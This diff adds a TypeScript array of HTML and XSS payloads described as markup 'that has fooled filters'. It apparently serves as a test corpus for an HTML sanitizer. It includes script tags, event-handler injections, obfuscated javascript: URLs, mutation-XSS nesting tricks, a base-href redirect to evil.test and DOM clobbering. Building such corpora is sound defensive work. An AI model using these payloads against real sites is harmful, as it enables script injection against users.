@@ -1,0 +1,23 @@
+/** Pieces of markup that have fooled filters. */
+export const VECTORS: readonly string[] = [
+  "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
+  "<script\n>alert(1)</script >", "<<script>alert(1)//<</script>", "<img/src=x/onerror=alert(1)>", "<img src=x\nonerror\n=\nalert(1)>",
+  '<img """><script>alert(1)</script>">', "<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+  "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+  '<a href="javascript:alert(1)">x</a>', '<a href="java&#115;cript:alert(1)">x</a>', '<a href="javascript&#58;alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>', '<a href="java&#x09;script:alert(1)">x</a>', '<a href="&#1;javascript:alert(1)">x</a>', '<a href="java\u0000script:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="vbscript:x">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<img src="data:text/html;base64,AAAA">',
+  '<img srcset="javascript:alert(1) 1x">', '<video poster="javascript:alert(1)"></video>', '<form action="javascript:x"><button formaction="javascript:x">x</button></form>',
+  '<a xlink:href="javascript:x">x</a>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe src=javascript:x>", '<base href="https://evil.test/"><a href="x">x</a>',
+  '<meta http-equiv="refresh" content="0;url=javascript:x">', '<link rel="stylesheet" href="x">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<template><script>alert(1)</script></template>", "<xmp><p title=\"</xmp><script>alert(1)</script>\">", "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
+  "<title></title/><img src=x onerror=alert(1)>", "<plaintext><img src=x onerror=alert(1)>", "<select><style></select><img src=x onerror=alert(1)></style>",
+  "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<!-- unterminated <img src=x onerror=alert(1)>",
+  "</main></div></body><p>out", "</p></p></p>", "<table><tr><td>x", "<table><p>foster</p></table>", "<p><table></p></table>", "<a href=x><table><a href=y></table></a>",
+  '<img id="location" name="cookie" src=x>', '<div style="position:fixed;inset:0">x</div>', '<a href="//evil.test/">x</a>', '<a href="\\\\evil.test\\x">x</a>', '<a href="/\\evil.test">x</a>',
+  "<object data=x><embed src=x></object>", "<marquee onstart=x>x</marquee>", "<details ontoggle=x open>x</details>", "<isindex type=image src=1 onerror=x>", "<dialog open>x</dialog>",
+  "<p dir=rtl lang=ar>x</p>", "<b><i></b></i>", "<li>a<li>b", "<ruby>a<rt>b</ruby>", "<svg><p>x</p></svg>y", "<image src=x onerror=x>", "<input onfocus=x autofocus>", "\u0000<\u0000script>x</script>",
+  "<p>\u202eevil</p>", "<del cite='javascript:x'>a</del>", "<ol start=99999999 type=z><li value=-1>x</ol>", "<td colspan=100000>x</td>", "<source src=x><track src=y>", "<picture><source srcset='x 1x'><img src=y></picture>",
+];
